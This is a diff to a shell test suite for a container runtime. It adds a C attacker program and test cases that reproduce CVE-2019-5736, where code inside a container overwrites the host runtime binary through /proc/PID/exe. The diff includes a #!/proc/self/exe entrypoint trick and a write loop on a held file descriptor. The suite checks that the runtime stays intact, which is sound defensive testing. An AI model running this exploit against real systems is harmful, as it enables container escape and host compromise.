@@ -11,6 +11,99 @@
 
 load ../integration/helpers
 
+# A static attacker for the races a shell loop is too slow for: it finds the first process whose
+# exe is neither itself nor busybox, opens it, tries to write it, then retries writing through the
+# held fd (as the published exploit did) until the write goes through, DIR/go appears or 15 s pass.
+setup_file() {
+	common_setup_file
+	ATTACKER=$BATS_FILE_TMPDIR/attacker
+	cat >"$BATS_FILE_TMPDIR/attacker.c" <<'EOF'
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <time.h>
+#include <unistd.h>
+static double now(void)
+{
+	struct timespec t;
+	clock_gettime(CLOCK_MONOTONIC, &t);
+	return t.tv_sec + t.tv_nsec / 1e9;
+}
+int main(int argc, char **argv)
+{
+	char path[4096], link[4096], go[4096];
+	struct stat self, bb, st;
+	FILE *l;
+	int fd = -1, w;
+	double end;
+	if (argc < 2)
+		return 2;
+	snprintf(path, sizeof path, "%s/log", argv[1]);
+	snprintf(go, sizeof go, "%s/go", argv[1]);
+	if (!(l = fopen(path, "a")))
+		return 2;
+	setvbuf(l, NULL, _IONBF, 0);
+	stat("/proc/self/exe", &self);
+	if (stat("/bin/busybox", &bb) < 0)
+		memset(&bb, 0, sizeof bb);
+	fprintf(l, "watching\n");
+	for (end = now() + 20; fd < 0 && now() < end;) {
+		DIR *d = opendir("/proc");
+		struct dirent *e;
+		while (d && fd < 0 && (e = readdir(d))) {
+			if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
+				continue;
+			snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
+			if ((fd = open(path, O_RDONLY | O_CLOEXEC)) < 0)
+				continue;
+			if (fstat(fd, &st) < 0 || (st.st_dev == self.st_dev && st.st_ino == self.st_ino) ||
+			    (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino)) {
+				close(fd);
+				fd = -1;
+			}
+		}
+		if (d)
+			closedir(d);
+	}
+	if (fd < 0) {
+		fprintf(l, "attacker-gave-up\nlate-done\n");
+		return 0;
+	}
+	memset(link, 0, sizeof link);
+	if (readlink(path, link, sizeof link - 1) < 0)
+		strcpy(link, "?");
+	fprintf(l, "target %s -> %s\n", path, link);
+	w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+	fprintf(l, "direct-write-%s\n", w >= 0 && write(w, "PWNED", 5) == 5 ? "ok" : "failed");
+	w = open(path, O_RDWR | O_CLOEXEC);
+	fprintf(l, "direct-open-rw-%s\nheld\n", w >= 0 ? "ok" : "failed");
+	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+	for (end = now() + 15;;) {
+		int gone = access(go, F_OK) == 0;
+		w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+		if (w >= 0) {
+			int ok = write(w, "PWNED", 5) == 5;
+			fprintf(l, "late-write-%s (%s)\n", ok ? "ok" : "failed", ok ? "written" : strerror(errno));
+			break;
+		}
+		if (errno != ETXTBSY || gone || now() > end) {
+			fprintf(l, "late-write-failed (%s)\n", strerror(errno));
+			break;
+		}
+		usleep(1000);
+	}
+	fprintf(l, "late-done\n");
+	return 0;
+}
+EOF
+	gcc -static -O2 -o "$ATTACKER" "$BATS_FILE_TMPDIR/attacker.c"
+	export ATTACKER
+}
+
 setup() {
 	common_setup
 	REAL_RUNTIME=$RUNTIME
@@ -76,14 +169,6 @@ assert_binary_intact() {
 	[ "$(sha256sum <"$REAL_RUNTIME")" = "$REAL_HASH" ]
 }
 
-exec_works() {
-	local out
-	out=$(rt exec "$1" true 2>&1) && return 0
-	case "$out" in *"not implemented"*) skip "clasp exec is not implemented yet" ;; esac
-	echo "exec failed: $out" >&2
-	return 1
-}
-
 @test "CVE-2019-5736: a createContainer hook cannot overwrite the runtime through /proc/PID/exe" {
 	# The hook runs inside the container's namespaces before pivot_root, as a child of the init
 	# (still the runtime); the state on stdin names the init's pid.
@@ -130,9 +215,13 @@ EOF
 
 # A privileged container (every capability, including CAP_SYS_PTRACE) attacks the next runtime
 # process that appears in its pid namespace.
-attacker_bundle() {
+attacker_caps() {
 	local all='["CAP_CHOWN","CAP_DAC_OVERRIDE","CAP_DAC_READ_SEARCH","CAP_FOWNER","CAP_FSETID","CAP_KILL","CAP_SETGID","CAP_SETUID","CAP_SETPCAP","CAP_NET_ADMIN","CAP_SYS_CHROOT","CAP_SYS_PTRACE","CAP_SYS_ADMIN","CAP_MKNOD","CAP_AUDIT_WRITE"]'
 	update_config ".process.capabilities = {\"bounding\": $all, \"effective\": $all, \"permitted\": $all} | .process.noNewPrivileges = false"
+}
+
+attacker_bundle() {
+	attacker_caps
 	set_cmd '
 		echo watching >/mnt/watching
 		i=0
@@ -173,60 +262,95 @@ attacker_bundle() {
 	assert_binary_intact
 }
 
-@test "CVE-2019-5736: a container process cannot overwrite the runtime through an exec'd process" {
-	attacker_bundle
+# The exploit as published: the process the runtime starts is a script whose interpreter is
+# #!/proc/self/exe, so the kernel runs the runtime's own binary again inside the container. Its
+# `--log` is a FIFO nobody reads yet, which holds that process still while the attacker opens it.
+# (On some kernels that execve fails with ENOENT; the attacker then catches the init itself.)
+evil_script() {
+	cp "$ATTACKER" "$X/attacker"
+	mkfifo "$X/fifo"
+	chmod 666 "$X/fifo"
+	printf '#!/proc/self/exe --log=/mnt/fifo\n' >"$X/evil"
+	chmod 755 "$X/evil"
+}
+
+# release_fifo: let the re-executed runtime go on (and exit) once the attacker holds it.
+release_fifo() {
+	wait_for_output "$X/log" held 20 || return 1
+	timeout 2 cat "$X/fifo" >/dev/null || true
+	touch "$X/go"
+	wait_for_output "$X/log" late-done 20
+}
+
+@test "CVE-2019-5736: a #!/proc/self/exe entrypoint cannot overwrite the runtime" {
+	evil_script
+	# The attacker waits in a first, privileged container; the victim shares its pid namespace
+	# and its entrypoint re-executes the runtime. The attacker takes whichever runtime process it
+	# sees first: the victim's init waiting for start, or the re-executed runtime.
+	attacker_caps
+	set_cmd '/mnt/attacker /mnt; sleep 1000'
 	a=$(new_id attacker)
 	run_d "$a"
 	[ "$status" -eq 0 ]
-	wait_for_file "$X/watching"
-	exec_works "$a"
-	# exec_works's own exec may already have been seen; start from a clean log.
-	wait_for_output "$X/log" held 5 || true
-	if ! grep -q '^target ' "$X/log" 2>/dev/null; then
-		rt exec "$a" sleep 1
-	fi
-	wait_for_output "$X/log" held
+	wait_for_output "$X/log" watching
+	apid=$(ct_pid "$a")
+	make_bundle "$BATS_TEST_TMPDIR/b"
+	update_config ".mounts += [{\"destination\": \"/mnt\", \"type\": \"bind\", \"source\": \"$X\", \"options\": [\"bind\"]}] | .linux.namespaces |= map(if .type == \"pid\" then .path = \"/proc/$apid/ns/pid\" else . end) | .process.args = [\"/mnt/evil\"]" "$BATS_TEST_TMPDIR/b"
+	b=$(new_id victim)
+	rt_bg create --bundle "$BATS_TEST_TMPDIR/b" "$b"
+	[ "$status" -eq 0 ]
+	wait_for_output "$X/log" held 20
+	rt start "$b"
+	release_fifo
+	assert_binary_intact
+}
+
+# exec_d ID ARGS...: exec -d, skipping the test while clasp has no exec.
+exec_d() {
+	rt_bg exec -d "$@"
+	case "$output" in *"not implemented"*) skip "clasp exec is not implemented yet" ;; esac
+	[ "$status" -eq 0 ] || {
+		echo "exec -d $*: $output" >&2
+		return 1
+	}
+}
+
+# exec_victims ID: exec short processes until the attacker has caught one of them before its
+# execve (the window is the exec child's setup, a millisecond or so).
+exec_victims() {
+	local i
+	for i in $(seq 30); do
+		grep -q '^held' "$X/log" 2>/dev/null && return 0
+		exec_d "$1" /bin/true
+		sleep 0.05
+	done
+	wait_for_output "$X/log" held 2
+}
+
+@test "CVE-2019-5736: a container process cannot overwrite the runtime through an exec'd process" {
+	evil_script
+	set_cmd '/mnt/attacker /mnt; sleep 1000'
+	a=$(new_id)
+	run_d "$a"
+	[ "$status" -eq 0 ]
+	wait_for_output "$X/log" watching
+	exec_victims "$a"
 	touch "$X/go"
 	wait_for_output "$X/log" late-done 20
 	assert_binary_intact
 }
 
 @test "CVE-2019-5736: an exec'd process cannot overwrite the runtime through a second exec" {
+	evil_script
 	set_cmd 'sleep 1000'
 	a=$(new_id)
 	run_d "$a"
 	[ "$status" -eq 0 ]
-	exec_works "$a"
-	# The attacker is itself an exec'd process (default capabilities); the victim the next exec.
-	rt_bg exec -d "$a" sh -c '
-		i=0
-		while [ $i -lt 400 ]; do
-			for p in /proc/[0-9]*; do
-				[ "$p" = /proc/$$ ] && continue
-				e=$(readlink $p/exe 2>/dev/null) || continue
-				case "$e" in */busybox | "") continue ;; esac
-				/mnt/attack.sh $p/exe /mnt
-				exit 0
-			done
-			i=$((i + 1))
-			sleep 0.01
-		done
-		echo attacker-gave-up >>/mnt/log'
-	sleep 0.3
-	rt exec "$a" sleep 0.5 || true
-	# An attacker without CAP_SYS_PTRACE may not even see the exe: that is a pass too.
-	for _ in $(seq 100); do
-		grep -q -e late-done -e attacker-gave-up "$X/log" 2>/dev/null && break
-		grep -q '^held' "$X/log" 2>/dev/null && touch "$X/go"
-		sleep 0.1
-	done
+	# The attacker is an exec'd process with the container's default capabilities.
+	exec_d "$a" /mnt/attacker /mnt
+	wait_for_output "$X/log" watching
+	exec_victims "$a"
 	touch "$X/go"
-	cat "$X/log" || true
-	if grep -q '^target ' "$X/log"; then
-		wait_for_output "$X/log" late-done 20
-		refute grep -qx direct-write-ok "$X/log"
-		refute grep -qx late-write-ok "$X/log"
-	fi
-	[ "$(sha256sum <"$RUNTIME")" = "$COPY_HASH" ]
-	[ "$(sha256sum <"$REAL_RUNTIME")" = "$REAL_HASH" ]
+	wait_for_output "$X/log" late-done 20
+	assert_binary_intact
 }
